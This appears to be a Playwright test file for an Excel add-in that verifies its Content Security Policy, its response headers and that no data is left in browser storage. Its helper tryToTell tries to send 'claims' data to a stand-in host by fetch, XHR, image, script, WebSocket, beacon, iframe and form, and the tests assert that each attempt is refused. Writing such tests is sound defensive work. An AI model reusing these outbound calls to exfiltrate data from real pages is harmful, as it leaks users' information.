import type { Frame } from "playwright-core";
import { expect } from "vitest";
import { test, type TryPage } from "./try-page";

/** A host that is not the page's own; nobody answers there. */
const ELSEWHERE = "https://elsewhere.example";

/** The frames of the page: the page itself, and those of the add-in. */
function frames({ page }: TryPage): readonly Frame[] {
  return page.frames();
}

/** What a page can try to tell somebody else; what came of each, and the directives that its policy says were broken. */
function tryToTell(host: string): Promise<{ readonly came: Record<string, string>; readonly broken: string[] }> {
  const broken: string[] = [];
  const violations = { count: 0, heard: (): void => undefined };
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
    broken.push(effectiveDirective);
    violations.count++;
    violations.heard();
  });
  const heard = (count: number): Promise<void> =>
    new Promise((resolve) => {
      violations.heard = () => void (violations.count >= count && resolve());
      violations.heard();
    });
  const loaded = (element: HTMLImageElement | HTMLScriptElement, src: string): Promise<string> =>
    new Promise((resolve) => {
      element.addEventListener("load", () => resolve("loaded"));
      element.addEventListener("error", () => resolve("refused"));
      element.src = src;
      document.body.append(element);
    });
  const sent = async (): Promise<Record<string, string>> => ({
    fetch: await fetch(`${host}/fetch`, { method: "POST", body: "claims" }).then(
      () => "answered",
      () => "refused",
    ),
    request: await new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve("answered");
      request.onerror = () => resolve("refused");
      request.open("GET", `${host}/request`);
      request.send();
    }),
    image: await loaded(document.createElement("img"), `${host}/image.png?claims`),
    script: await loaded(document.createElement("script"), `${host}/script.js`),
    socket: await new Promise((resolve) => {
      try {
        const socket = new WebSocket(`${host.replace("https", "wss")}/socket`);
        socket.onopen = () => resolve("open");
        socket.onerror = () => resolve("refused");
      } catch {
        resolve("refused");
      }
    }),
  });
  return (async () => {
    const came = await sent();
    navigator.sendBeacon(`${host}/beacon`, "claims");
    await heard(6);
    document.body.append(Object.assign(document.createElement("iframe"), { src: `${host}/frame` }));
    await heard(7);
    const form = Object.assign(document.createElement("form"), { action: `${host}/form`, method: "post" });
    document.body.append(form);
    form.submit();
    await heard(8);
    return { came, broken: broken.toSorted() };
  })();
}

test("the policy refuses whatever pane, page and dialog might tell another host", async ({ browser, open }) => {
  // A page that breaks its policy complains, so that it is looked at apart from those that the harness keeps clean.
  const { origin } = await open({ empty: true });
  for (const address of ["/addin/taskpane.html", "/addin/dialog.html", "/"]) {
    const context = await browser.newContext();
    const answered: string[] = [];
    context.on("response", (response) => answered.push(response.url()));
    const page = await context.newPage();
    await page.goto(`${origin}${address}`);
    const { came, broken } = await page.evaluate(tryToTell, ELSEWHERE);
    const refused = ["fetch", "request", "image", "script", "socket"].map((way) => [way, "refused"]);
    expect(came, address).toEqual(Object.fromEntries(refused));
    expect(broken, address).toEqual([
      ...["connect-src", "connect-src", "connect-src", "connect-src"],
      ...["form-action", "frame-src", "img-src", "script-src-elem"],
    ]);
    expect(
      answered.filter((one) => !one.startsWith(`${origin}/`) && !/^(data|blob):/.test(one)),
      address,
    ).toEqual([]);
    await context.close();
  }
});

test("every answer of the server carries the policy", async ({ open }) => {
  const opened = await open();
  const { page, origin } = opened;
  const seen = await page.evaluate(() => performance.getEntriesByType("resource").map(({ name }) => name));
  const files = new Set([...seen, ...opened.requests].filter((address) => address.startsWith(`${origin}/`)));
  expect(files.size).toBeGreaterThan(5);
  for (const address of [...files, `${origin}/not-there.js`, `${origin}/addin/not-there.html`]) {
    const answer = await page.request.get(address);
    const headers = answer.headers();
    expect(headers["content-security-policy"], address).toMatch(/^default-src 'none'; script-src 'self';/);
    expect(headers["content-security-policy"], address).toContain("connect-src 'self'");
    expect(headers["content-security-policy"], address).not.toMatch(/https?:|unsafe-eval|\*/);
    expect(headers["x-content-type-options"], address).toBe("nosniff");
    expect(headers["referrer-policy"], address).toBe("no-referrer");
  }
});

test("a whole session asks for nothing but the page's own files, and leaves nothing in the browser", async ({
  open,
}) => {
  const opened = await open();
  const { pane, page, requests, origin } = opened;
  await opened.build();
  await pane.getByRole("tab", { name: "Settings" }).click();
  await pane.getByRole("radio", { name: "I know it" }).check();
  await pane
    .getByLabel(/^Cost per session/)
    .and(pane.locator("input:not([type=radio])"))
    .fill("93");
  await opened.button("Save").click();
  await pane.getByText("Saved.", { exact: true }).waitFor();
  await pane.getByRole("tab", { name: "Scorecard" }).click();
  await pane
    .locator("section[aria-labelledby=ranking]")
    .getByRole("button", { name: /Pinwheel Mutual/ })
    .click();
  await pane.getByRole("button", { name: /^Initial denials: .*Show the claims$/ }).click();
  await pane.getByText(/^Showing \d+ rows of Pinwheel Mutual/).waitFor();
  const [file] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("button", { name: "Download" }).click(),
  ]);
  expect(file.url()).toMatch(/^blob:/);
  // The harness lets nothing but own addresses pass; here that it has seen any, and that none says more than a file's name.
  expect(requests.length).toBeGreaterThan(8);
  for (const address of requests) expect(address).toMatch(/^(data:|blob:)|^[^?]*$|\?(claims|empty|_host_Info=[^&]*)?$/);
  expect(requests.every((address) => address.startsWith(origin) || /^(data|blob|about):/.test(address))).toBe(true);

  for (const frame of frames(opened)) {
    const kept = await frame.evaluate(async () => ({
      local: { ...localStorage },
      session: { ...sessionStorage },
      cookies: document.cookie,
      databases: (await indexedDB.databases()).map(({ name }) => name),
      caches: await caches.keys(),
    }));
    process.stdout.write(`${new URL(frame.url()).pathname} keeps ${JSON.stringify(kept)}\n`);
    expect(kept.cookies).toBe("");
    expect(kept.databases).toEqual([]);
    expect(kept.caches).toEqual([]);
    const text = JSON.stringify([kept.local, kept.session]);
    expect(text).not.toMatch(/Pinwheel|Quillfeather|160301|93\b|Claims/);
  }
  expect(await page.context().cookies()).toEqual([]);
});

test("a dialog is told what to say behind the # alone, which no server sees", async ({ open }) => {
  const opened = await open({ empty: true });
  const { excel, page, pane, requests } = opened;
  await opened.button("Look again").waitFor();
  // The ribbon opens the pane; the user closes it while Excel waits for a cell that is being edited.
  await excel.evaluate((it) => it.beginEdit());
  await page.getByRole("button", { name: "Build scorecard", exact: true }).click();
  await pane
    .locator("main > [role=status]")
    .getByText(/Looking for the claims|Waiting for Excel/)
    .waitFor();
  await page.getByRole("button", { name: "Close the pane" }).click();
  await page.locator('section[aria-label="Task pane"]').waitFor({ state: "hidden" });
  await excel.evaluate((it) => it.finishEdit());
  const dialog = page.getByRole("dialog", { name: "Payer Scorecard" });
  await dialog.waitFor();
  const address = new URL((await dialog.locator("iframe").getAttribute("src"))!);
  expect(decodeURIComponent(address.hash)).toMatch(/No claims were found in this workbook/);
  expect(decodeURIComponent(address.pathname + address.search)).not.toMatch(/claims/i);
  await page
    .frameLocator('iframe[title="Payer Scorecard dialog"]')
    .getByText(/No claims were found/)
    .waitFor();
  const asked = requests.filter((one) => one.includes("dialog.html"));
  expect(asked.length).toBeGreaterThan(0);
  for (const one of asked) expect(decodeURIComponent(one.split("#")[0]!)).not.toMatch(/claims were found/);
});
